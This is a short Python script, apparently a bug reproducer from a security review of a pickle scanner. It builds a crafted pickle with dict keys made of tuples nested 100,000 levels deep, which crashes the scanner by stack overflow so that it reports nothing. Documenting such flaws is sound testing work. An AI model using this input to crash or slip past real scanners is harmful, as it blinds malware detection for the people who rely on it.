"""s8: `Graph::same_key` compares tuple keys item by item, recursively, with no depth bound.
Two tuples nested DEPTH deep (one byte per level: TUPLE1), `((..(None,)..),)` and
`((..(1,)..),)`, used as keys of one dict: the scanner recurses to the innermost item to find
they differ and overflows its stack ("thread 'main' has overflowed its stack", SIGABRT) instead
of reporting. Python's hashes differ, so it never compares them: the load succeeds.
The value pass runs because the stream also applies `builtins.set` to `([],)`.

    s8_deep_tuple_key.py build FILE      (DEPTH from S8_DEPTH, default 100000)
"""
import os
import sys

DEPTH = int(os.environ.get("S8_DEPTH", "100000"))


def build(path, depth=None):
    depth = DEPTH if depth is None else depth
    out = bytearray(b"\x80\x02}")
    out += b"N" + b"\x85" * depth + b"Ns"  # ((((None,),),),...): first key
    out += b"K\x01" + b"\x85" * depth + b"Ns"  # ((((1,),),),...): another key
    out += b"0cbuiltins\nset\n(]tR."
    with open(path, "wb") as f:
        f.write(out)


if __name__ == "__main__" and sys.argv[1] == "build":
    build(sys.argv[2])
